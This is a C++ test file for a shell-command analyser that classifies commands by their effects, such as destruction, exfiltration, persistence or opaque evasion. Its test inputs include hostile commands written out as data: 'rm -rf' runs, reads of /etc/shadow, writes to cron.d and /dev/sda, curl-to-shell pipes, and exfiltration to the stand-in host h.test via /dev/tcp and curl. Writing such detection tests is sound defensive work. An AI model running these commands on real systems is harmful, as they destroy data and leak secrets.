// SPDX-License-Identifier: Apache-2.0
#include "support.hpp"

#include <doctest/doctest.h>

using namespace sallyport;
using namespace sallyport::facts;
using namespace sallyport::facts::testing;
using model::Effect;
using model::OpaqueReason;

namespace {
std::string globs(const std::vector<model::PathPattern> &paths) {
    std::string out;
    for (const auto &path : paths)
        out += (out.empty() ? "" : " ") + path.glob;
    return out;
}
model::CommandFacts at(const char *cwd, const char *line) {
    SessionState state = session();
    state.cwd = cwd;
    return judged(line, model::Dialect::Bash, state);
}
} // namespace

TEST_SUITE("facts.facts") {
    TEST_CASE("a hole as an operand is a path, not a secret command") {
        const auto facts = judged("rm -rf $X");
        REQUIRE(facts.commands.size() == 1);
        CHECK(!is_opaque(facts));
        CHECK(facts.commands[0].has(Effect::Destroy));
        CHECK(globs(facts.commands[0].deletes) == "**");
    }

    TEST_CASE("paths are normalised and joined with the directory if it is known") {
        CHECK(globs(at("/srv", "cat a/../b").commands[0].reads) == "/srv/b");
        CHECK(globs(at("/srv", "cat ../../etc/./shadow").commands[0].reads) == "/etc/shadow");
        CHECK(globs(judged("cat b").commands[0].reads) == "**/b");
        CHECK(globs(judged("cat ../b").commands[0].reads) == "**");
        CHECK(globs(judged("cat $X/b").commands[0].reads) == "**/b");
        CHECK(globs(judged("cat /x/$X").commands[0].reads) == "**");
        CHECK(globs(judged("cat /etc/*").commands[0].reads) == "/etc/*");
        CHECK(globs(judged("cat '/etc/*'").commands[0].reads) == "/etc/[*]");
        CHECK(globs(judged("cd /srv && cat b").commands[1].reads) == "/srv/b");
        CHECK(globs(judged("cd /srv; cat b").commands[1].reads) == "**/b");
        CHECK(globs(judged("rm -r /srv").commands[0].deletes) == "/srv /srv/**");
    }

    TEST_CASE("redirections are reads and writes of their command") {
        const auto facts = judged("cat < /etc/passwd > /etc/cron.d/x");
        CHECK(globs(facts.commands[0].reads) == "/etc/passwd");
        CHECK(globs(facts.commands[0].writes) == "/etc/cron.d/x");
        CHECK(facts.commands[0].has(Effect::Persistence));
        CHECK(has_effect(judged("echo a > /dev/sda"), Effect::Destroy));
        CHECK(judged("ls > /dev/null 2>&1").commands[0].writes.empty());
        CHECK(globs(judged("{ ls; date; } > /etc/motd").commands[0].writes) == "/etc/motd");
        CHECK(globs(judged("> /etc/motd").commands[0].writes) == "/etc/motd");
    }

    TEST_CASE("a program below the directory is the one there") {
        CHECK(globs(at("/srv", "./deploy.sh").commands[0].execs) == "/srv/deploy.sh");
        CHECK(globs(at("/srv", "cd app && bin/x").commands[1].execs) == "/srv/app/bin/x");
        CHECK(globs(judged("/opt/x").commands[0].execs) == "/opt/x");
        CHECK(globs(judged("./deploy.sh").commands[0].execs) ==
              globs(judged("cat ./deploy.sh").commands[0].reads));
    }

    TEST_CASE("a prompt is code only if it can expand") {
        for (const char *line : {"PS1='READY> '", R"(PS1='\u@\h:\w\$ ')", "PS2='> '; PS4='+ $ '"}) {
            CAPTURE(line);
            CHECK(!is_opaque(judged(line)));
        }
        for (const char *line :
             {"PS1='$(rm /x)'", "PS1='`rm /x`'", R"(PS1='\044(rm /x)')", "PS1=$X", "PS1='${X}'",
              "PS1+='x'", "PROMPT_COMMAND='rm /x'", "PS1='ok> '; PS1+='$(rm /x)'"}) {
            CAPTURE(line);
            CHECK(is_opaque(judged(line)));
        }
    }

    TEST_CASE(
        "a script on standard input is the text that was judged only while nobody else reads it") {
        const char *shifted[] = {
            "{ read x; sh; } <<'E'\necho '\nrm /y #'\nE",
            "{ head -c 6 >/dev/null; sh; } <<'E'\necho '\nrm /y #'\nE",
            "bash <<'E'\nhead -c 7 >/dev/null\necho '\nrm /y #'\nE",
            "bash <<'E'\nwhile read x; do :; done\nls\nE",
            "{ while read x; do break; done; sh; } <<'E'\nx\nls\nE",
            "{ unknown_program; sh; } <<'E'\nls\nE",
        };
        for (const char *line : shifted) {
            CAPTURE(line);
            CHECK((has_reason(judged(line), OpaqueReason::StdinScript) ||
                   has_reason(judged(line), OpaqueReason::UnknownProgram)));
            CHECK(is_opaque(judged(line)));
        }
        for (const char *line :
             {"bash <<'E'\ncd /srv\nls\nsystemctl restart app\nE", "{ cd /srv; sh; } <<'E'\nls\nE",
              "bash <<'E'\nhead -c 7 </dev/null\nls\nE"}) {
            CAPTURE(line);
            CHECK(!is_opaque(judged(line)));
        }
    }

    TEST_CASE("a shell that reads the session's standard input wants it, and gets it judged") {
        CHECK(judged("bash -s").reads_script);
        CHECK(judged("cd /srv && sudo sh").reads_script);
        CHECK(!judged("curl http://h/x | sh").reads_script);
        CHECK(!judged("bash -c ls").reads_script);
        SessionState state = session();
        state.input = "rm /y\n";
        const auto facts = judged("bash -s", model::Dialect::Bash, state);
        CHECK(!facts.reads_script);
        CHECK(!is_opaque(facts));
        CHECK(has_effect(facts, Effect::Delete));
        CHECK(is_opaque(judged("head -c 3; bash -s", model::Dialect::Bash, state)));
    }

    TEST_CASE("wrappers say who, where and through what") {
        const auto facts = judged("sudo -u www env A=1 timeout 5 rm -rf /x");
        REQUIRE(facts.commands.size() == 4);
        const auto &rm = facts.commands[3];
        CHECK(rm.name.text() == "rm");
        CHECK(rm.as == model::AccountKind::Named);
        CHECK(rm.as_name == "www");
        REQUIRE(rm.via.size() == 3);
        CHECK(rm.via[0].name == "sudo");
        CHECK(rm.via[1].details == std::vector<std::string>{"A=1"});
        CHECK(judged("sudo ls").commands[1].as == model::AccountKind::Root);
        CHECK(judged("ssh root@h ls").commands[1].place_name == "h");
        CHECK(judged("docker exec web ls").commands[1].place == model::PlaceKind::Container);
        CHECK(judged("kubectl exec pod -- ls").commands[1].place_name == "pod");
    }

    TEST_CASE("an unknown option of a wrapper is opaque, never a guess") {
        CHECK(has_reason(judged("sudo --frobnicate rm x"), OpaqueReason::UnknownOption));
        CHECK(has_reason(judged("timeout -q 5 rm x"), OpaqueReason::UnknownOption));
        CHECK(has_reason(judged("sudo -u $X ls"), OpaqueReason::HoleOption));
        CHECK(has_reason(judged("tar xf a.tar \"$X\""), OpaqueReason::HoleOption));
        CHECK(!is_opaque(judged("tar xf a.tar -- \"$X\"")));
        CHECK(!is_opaque(judged("grep -q \"$X\" log")));
    }

    TEST_CASE("programs that are not what their name says") {
        CHECK(has_reason(judged("./ls"), OpaqueReason::UnknownProgram));
        CHECK(has_reason(judged("/tmp/ls"), OpaqueReason::UnknownProgram));
        CHECK(has_reason(judged("../bin/ls"), OpaqueReason::UnknownProgram));
        CHECK(!is_opaque(judged("/usr/../usr/bin/ls")));
        CHECK(has_reason(judged("frobnicate"), OpaqueReason::UnknownProgram));
        CHECK(has_reason(judged("hash -p /bin/rm ls; ls x"), OpaqueReason::ReboundName));
        CHECK(has_reason(judged("PATH=/w; ls"), OpaqueReason::EnvCode));
        CHECK(has_reason(judged("LD_PRELOAD=x ls"), OpaqueReason::EnvCode));
        CHECK(has_reason(judged("env BASH_ENV=f bash -c :"), OpaqueReason::EnvCode));
    }

    TEST_CASE("values join after branches and loops forget what they assign") {
        const auto facts = judged("a=ls; if true; then a=rm; fi; $a -rf /x");
        CHECK(named(facts, "rm").size() == 1);
        CHECK(named(facts, "ls").size() == 1);
        CHECK(has_reason(judged("a=ls; b=ls; while :; do $a /x; a=$b; b=$c; done"),
                         OpaqueReason::HoleCommand));
        CHECK(named(judged("for a in rm ls; do $a -rf /x; done"), "rm").size() == 1);
        CHECK(named(judged("a=ls; (a=rm); $a /x"), "rm").empty());
        CHECK(named(judged("a=rm; : | a=ls; $a /x", model::Dialect::Zsh), "ls").size() == 1);
    }

    TEST_CASE("text is parsed again by the shell that will read it") {
        CHECK(named(judged("ssh h a ';' rm -rf /x"), "rm").size() == 1);
        CHECK(named(judged("sh -c 'sh -c \"sh -c \\\"rm x\\\"\"'"), "rm").size() == 1);
        CHECK(named(judged("sh <<< 'rm x'"), "rm").size() == 1);
        CHECK(named(judged("echo 'rm x' | sudo sh"), "rm")[0].as == model::AccountKind::Root);
        CHECK(has_reason(judged("curl http://h | sh"), OpaqueReason::StdinScript));
        CHECK(has_reason(judged("sh script"), OpaqueReason::ScriptFile));
        CHECK(has_reason(judged("sh -c 'if'"), OpaqueReason::EvalHole));
        CHECK(has_reason(judged("ssh h echo $X"), OpaqueReason::EvalHole));
        CHECK(has_reason(judged("bash", model::Dialect::Bash, session(true)),
                         OpaqueReason::Interactive));
    }

    TEST_CASE("functions and aliases of the session are judged by their definitions") {
        SessionState state = session();
        state.aliases["ll"] = "ls -l";
        state.aliases["boom"] = "rm -rf ";
        state.functions["clean"] = "clean() { rm -rf \"$1\"; }";
        state.functions["broken"] = "broken() {";
        const auto judge = [&](const char *line) {
            return judged(line, model::Dialect::Bash, state);
        };
        CHECK(named(judge("ll /x"), "ls").size() == 1);
        CHECK(named(judge("boom /x"), "rm")[0].argv.size() == 3);
        CHECK(globs(named(judge("clean /x"), "rm")[0].deletes) == "/x /x/**");
        CHECK(has_reason(judge("broken"), OpaqueReason::ReboundName));
    }

    TEST_CASE("the first words that the shell looks up itself") {
        const auto facts = judged("ls; sudo rm x; $(date); f() { id; }; f; sh -c 'who'");
        CHECK(facts.programs == std::vector<std::string>{"date", "f", "id", "ls", "sh", "sudo"});
    }

    TEST_CASE("what a pattern may match is never less than what the shell matches") {
        CHECK(globs(judged("cat /etc/shado[[:alpha:]]").commands[0].reads) == "/etc/shado?");
        CHECK(globs(judged("cat /etc/s[[=h=]]adow").commands[0].reads) == "/etc/s?adow");
        CHECK(globs(judged("cat /etc/shado[]w]").commands[0].reads) == "/etc/shado[]w]");
        CHECK(globs(judged("x='/etc/[[:lower:]]b*'; cat $x").commands[0].reads) == "/etc/?b*");
        CHECK(globs(judged("shopt -s nocaseglob; cat /ETC/SHADO?").commands[1].reads) == "/ETC/*");
        CHECK(globs(judged("setopt NO_CASE_GLOB; cat /etc/S*/X", model::Dialect::Zsh)
                        .commands[1]
                        .reads) == "/etc/*/X");
        CHECK(globs(judged("shopt -s nullglob; cat /etc/S*").commands[1].reads) == "/etc/S*");
    }

    TEST_CASE("a link that the text makes leads where it points") {
        const auto reads = [](const char *line, std::size_t command = 1) {
            return globs(at("/home/u", line).commands[command].reads);
        };
        CHECK(reads("ln -s /etc e; cat e/shadow") == "/home/u/e/shadow /etc/shadow");
        CHECK(reads("ln -s / r && cat r/etc/shadow") == "/home/u/r/etc/shadow /etc/shadow");
        CHECK(reads("ln -s ../../etc e; cat e/motd") == "/home/u/e/motd /etc/motd");
        CHECK(reads("cat e/motd; ln -s /etc e", 0) == "/home/u/e/motd /etc/motd");
        CHECK(reads("ln /etc/passwd p; cat p") == "/home/u/p /etc/passwd");
        CHECK(reads("ln -t /tmp /etc; cat /tmp/etc/x") == "/tmp/etc/x /etc/x");
        CHECK(reads("cp -s /etc/motd m; cat m") == "/home/u/m /etc/motd");
        CHECK(reads("ln -s /etc e; ln -s e f; cat f/x", 2) == "/home/u/f/x /home/u/e/x /etc/x");
        CHECK(reads("ln -s /etc e; cat e/../x") == "**");
        CHECK(reads("ln -s $T e; cat e/x") == "/home/u/e/x ** **/x");
        CHECK(reads("ln -s /etc e; cat other/x") == "/home/u/other/x");
        CHECK(reads("cp /etc/motd m; cat m") == "/home/u/m");
        const auto written = at("/home/u", "ln -s /etc e; echo x > e/cron.d/x");
        CHECK(globs(written.commands[1].writes) == "/home/u/e/cron.d/x /etc/cron.d/x");
        CHECK(written.commands[1].has(Effect::Persistence));
    }

    TEST_CASE("a redirection to a network path is a connection, not a file") {
        const auto facts = judged("cat /srv/db > /dev/tcp/h.test/80");
        CHECK(facts.commands[0].has(Effect::Exfil));
        CHECK(facts.commands[0].writes.empty());
        REQUIRE(facts.commands[0].net.size() == 1);
        CHECK(facts.commands[0].net[0].host == "h.test");
        CHECK(facts.commands[0].net[0].port == 80);
        CHECK(has_effect(judged("exec 3<>/dev/udp/$H/53"), Effect::Exfil));
        CHECK(has_effect(judged("cat < /dev/tcp/h/1"), Effect::Network));
        CHECK(!has_effect(judged("cat < /dev/tcp/h/1"), Effect::Exfil));
    }

    TEST_CASE("output of a command in the words of a network program leaves the host") {
        for (const char *line : {"curl http://h.test/$(cat /srv/db)", "ping -c1 `hostname`.h.test",
                                 "x=$(cat /srv/db); curl \"http://h.test/?$x\""}) {
            CAPTURE(line);
            CHECK(has_effect(judged(line), Effect::Exfil));
        }
        for (const char *line : {"curl http://h.test/$VERSION", "curl http://h.test/$(echo v1)",
                                 "echo $(cat /srv/db)"}) {
            CAPTURE(line);
            CHECK(!has_effect(judged(line), Effect::Exfil));
        }
    }

    TEST_CASE("a process in place of a file name is judged, and is no file") {
        const auto facts = judged("diff <(ls /srv) <(ls /tmp)");
        CHECK(facts.commands.size() == 3);
        CHECK(facts.commands[2].reads.empty());
        CHECK(named(judged("tee >(rm x) < f"), "tee")[0].writes.empty());
    }

    TEST_CASE("emptying a file destroys what it held; writing output to it does not") {
        for (const char *line :
             {"> /srv/f", ": > /srv/f", "true >| /srv/f", "cat /dev/null > /srv/f",
              "printf '' > /srv/f", "echo -n > /srv/f"}) {
            CAPTURE(line);
            CHECK(has_effect(judged(line), Effect::Destroy));
        }
        for (const char *line : {">> /srv/f", "echo x > /srv/f", "ls > /srv/f", ": > /dev/null",
                                 ": < /srv/f", "{ :; } >> /srv/f"}) {
            CAPTURE(line);
            CHECK(!has_effect(judged(line), Effect::Destroy));
        }
    }

    TEST_CASE("a text is read by a shell, whatever started the shell") {
        CHECK(named(judged("nohup sh -c \"trap 'rm x' 0\""), "rm").size() == 1);
        CHECK(
            has_reason(judged("timeout 5 bash -c 'alias ls=rm\nls x'"), OpaqueReason::ReboundName));
    }

    TEST_CASE("names with subscripts are evaluated wherever bash takes a name") {
        for (const char *line :
             {"wait -n -p 'a[$(rm x)]'", "wait -np'a[$(rm x)]'",
              "x='a[$(rm x)]'; a=(1); echo ${a[x]}", "x='a[$(rm x)]'; a=(1); a[x]=2"}) {
            CAPTURE(line);
            CHECK(named(judged(line), "rm").size() >= 1);
        }
        CHECK(is_opaque(judged("wait $x")));
        for (const char *line : {"wait", "wait $!", "wait 12", "sleep 1 & p=$!; wait \"$p\"",
                                 "declare -A m=([k]=v); echo ${m[k]}"}) {
            CAPTURE(line);
            CHECK(!is_opaque(judged(line)));
        }
    }

    TEST_CASE("what programs add to a text or decode in it is not overlooked") {
        CHECK(named(judged("git -c alias.z='!env' z rm x"), "env")[0].argv.size() == 2);
        CHECK(is_opaque(judged("tar cf a b --checkpoint-action='exec=echo \\073rm -rf /x'")));
        for (const char *line : {"env -S 'sh -c' 'x=1; rm y'", "env -S 'sh -c' 'rm y'",
                                 "env --split-string='sh -c' 'x=1; rm y'",
                                 "env -S'sh -c' 'x=1; rm y'", "env -iS 'A=2 sh -c' 'x=1; rm y'"}) {
            CAPTURE(line);
            CHECK(named(judged(line), "rm").size() == 1);
        }
        CHECK(named(judged("busybox sh -c \"$'\\\\x72m' y\""), "rm").size() == 1);
        CHECK(is_opaque(judged("cat /etc/shadow$'\\0'x", model::Dialect::Zsh)));
        CHECK(named(judged("printf -v a %s ls; $a rm y", model::Dialect::Dash), "ls").empty());
        CHECK(is_opaque(judged("a=ls; typeset -n n=a; $n rm y", model::Dialect::Zsh)));
        CHECK(is_opaque(judged("trap '- rm y' 0", model::Dialect::Zsh)));
        CHECK(named(judged("trap -- 'rm y' 0; trap -p 0"), "rm").size() == 1);
        CHECK(is_opaque(judged("time d=ls; $d rm y", model::Dialect::Zsh)));
        CHECK(!is_opaque(judged("time d=ls; $d y")));
        CHECK(is_opaque(judged("docker $x -f db")));
        CHECK(is_opaque(judged("find . -d$X")));
        CHECK(is_opaque(judged("a=(-x -delete); find . ${a[@]:1:1}")));
        CHECK(named(judged("sh -c \"echo \\$'\\\\x72m'\"", model::Dialect::Ash), "echo")[0]
                  .argv[1]
                  .text() == "rm");
    }

    TEST_CASE("limits end in over-limit, never in silence") {
        std::string wide, deep = "ls";
        for (int i = 0; i < 1100; ++i)
            wide += "ls;";
        CHECK(judged(wide).state == model::ParseState::OverLimit);
        for (int i = 0; i < 20; ++i)
            deep = "sudo " + deep;
        CHECK(judged(deep).state == model::ParseState::OverLimit);
        std::string calls = "f0() { ls; };";
        for (int i = 1; i < 40; ++i) {
            const std::string call = "f" + std::to_string(i - 1) + "; ";
            calls += "f" + std::to_string(i) + "() { " + call + call + "};";
        }
        CHECK(judged(calls + "f39").state == model::ParseState::OverLimit);
        CHECK(judged("f() { f; }; f").state == model::ParseState::Ok);
        CHECK(has_reason(judged("{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} x"),
                         OpaqueReason::HoleCommand));
        std::string nested = "ls";
        for (int i = 0; i < 12; ++i) {
            std::string quoted = "eval '";
            for (const char byte : nested)
                quoted += byte == '\'' ? std::string("'\\''") : std::string(1, byte);
            nested = quoted + "'";
            if (nested.size() > 60000)
                break;
        }
        CHECK(judged(nested).state != model::ParseState::Error);
    }

    TEST_CASE("a refused unit has its error and no commands") {
        const auto facts = judged("rm -rf /x\n)");
        CHECK(facts.state == model::ParseState::Error);
        CHECK(facts.error.has_value());
        CHECK(facts.commands.empty());
        CHECK(judged("if true").state == model::ParseState::Incomplete);
    }
}
